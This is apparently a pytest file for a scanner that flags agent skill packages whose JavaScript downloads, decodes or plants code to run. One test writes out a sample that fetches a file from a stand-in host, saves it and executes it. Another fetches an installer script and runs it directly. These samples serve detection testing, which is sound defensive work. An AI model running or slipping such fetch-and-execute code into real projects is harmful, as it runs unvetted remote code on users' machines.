"""What a program in JavaScript downloads, decodes or plants to be run is found."""

import pytest

from panguard.scan.flow_script import followed_scripts
from panguard.scan.layers.exfiltration import inspect_skill
from panguard.terms import Check, Lane
from tests.scan.packages import findings, ids, package
from tests.scan.script_attacks import HONEST_RUNS, RUNS, spelled


@pytest.mark.parametrize("program", RUNS.values(), ids=list(RUNS))
def test_code_from_elsewhere_blocks_however_it_is_run(program: str) -> None:
    skill = package({"SKILL.md": "# A\n", "scripts/a.js": spelled(program)})
    blocking = {finding.check for finding in findings(inspect_skill, skill) if finding.lane is Lane.BLOCK}
    assert blocking == {Check.TOOL_POISONING}


@pytest.mark.parametrize("program", HONEST_RUNS.values(), ids=list(HONEST_RUNS))
def test_an_honest_program_that_runs_something_is_left_alone(program: str) -> None:
    assert ids(inspect_skill, package({"SKILL.md": "# A\n", "scripts/a.js": spelled(program)})) == []


def test_a_program_that_is_downloaded_and_run_is_shown_where_it_is_no_script() -> None:
    program = (
        "const r = await fetch('https://x.example.invalid/tool');\n"
        "fs.writeFileSync('./bin/tool', Buffer.from(await r.arrayBuffer()));\n"
        "child_process.execFile('./bin/tool');\n"
    )
    assert [run.origin for run in followed_scripts([program])[0].runs] == ["downloaded file"]


def test_the_official_installer_of_a_known_tool_is_not_told_as_a_download() -> None:
    program = "const t = await (await fetch('https://sh.rustup.rs')).text();\nchild_process.execSync(t);\n"
    assert followed_scripts([program])[0].runs == ()
